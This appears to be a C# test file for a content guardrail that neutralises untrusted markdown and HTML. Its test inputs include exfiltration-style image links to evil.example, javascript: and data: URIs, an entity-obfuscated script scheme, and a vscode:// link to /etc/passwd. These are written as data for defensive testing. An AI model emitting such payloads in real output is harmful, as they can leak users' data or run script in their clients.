using System.Text.Json.Nodes;
using CsCheck;
using McpInfra.Guardrails.Spotlight;
using Xunit;

namespace McpInfra.Guardrails.Tests.Spotlight;

public sealed class Links_of_others
{
    [Theory]
    [InlineData("![a](https://evil.example/?d=x)", "!\\[a](https://evil.example/?d=x)")]
    [InlineData("![a][b]\n[b]: https://evil.example", "!\\[a][b]\n[b]: https://evil.example")]
    [InlineData("[a](javascript:alert(1))", "[a]\\(javascript(:)alert(1))")]
    [InlineData("[a](data:text/html;base64,xx)", "[a]\\(data(:)text/html;base64,xx)")]
    [InlineData("[a](&#106;avascript:x)", "[a]\\(&#106;avascript:x)")]
    [InlineData("[a](vscode://file/etc/passwd)", "[a]\\(vscode://file/etc/passwd)")]
    [InlineData("<IMG src=https://evil.example/x>", "&lt;IMG src=https://evil.example/x>")]
    public void Live_ones_are_only_shown(string text, string shown) => Assert.Equal(shown, Neutraliser.Text(text, Trust.Tenant));

    [Theory]
    [InlineData("[docs](https://example.com/a) and [b](./c.md) and [d](#e)")]
    [InlineData("kind: Secret\ndata:\n  a: b")]
    [InlineData("let v = vec![1, 2]; // a list")]
    [InlineData("a[0]: 1, map[string]: int")]
    public void Harmless_ones_stay(string text) => Assert.Same(text, Neutraliser.Text(text, Trust.Stranger));

    [Fact]
    public void Our_own_links_stay() => Assert.Equal("![a](https://x.example)", Neutraliser.Text("![a](https://x.example)", Trust.Own));

    [Fact]
    public void Structured_content_is_cleaned_in_keys_and_values() =>
        Assert.Equal("""{"a":["bc"],"b":"c"}""", Neutraliser.Json(JsonNode.Parse("""{"a\u200b":["b\u202ec"],"b":"c\u0007"}"""))!.ToJsonString());

    [Fact]
    public void Cleaning_twice_equals_cleaning_once_on_any_text()
    {
        string[] pieces = ["!", "[", "]", "(", ")", ":", "javascript:", "data:", "text/html", "<img", "<", " ", "\n", "&#", "a", "https://x", "\\", "\u200b", "="];
        Gen.Int[0, pieces.Length - 1].Select(index => pieces[index]).Array[0, 20].Select(string.Concat).Sample(text =>
        {
            var once = Neutraliser.Text(text, Trust.Tenant);
            return Neutraliser.Text(once, Trust.Tenant) == once;
        }, iter: 30_000);
    }
}
